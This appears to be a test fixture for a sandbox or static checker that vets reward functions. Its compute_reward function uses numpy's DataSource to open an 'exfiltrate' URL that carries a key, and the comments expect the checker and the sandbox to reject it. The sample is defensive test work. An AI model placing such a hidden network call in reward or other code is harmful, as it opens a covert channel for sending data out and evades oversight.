# expect: static: numpy.lib: not on the list
# sandbox: forbidden: system call the sandbox forbids
import numpy as np


def compute_reward(prev, action, state):
    source = np.lib.npyio.DataSource(None)
    source.open("http://127.0.0.1:9/exfiltrate?key=1").read()
    return 1.0, {"alive": 1.0}
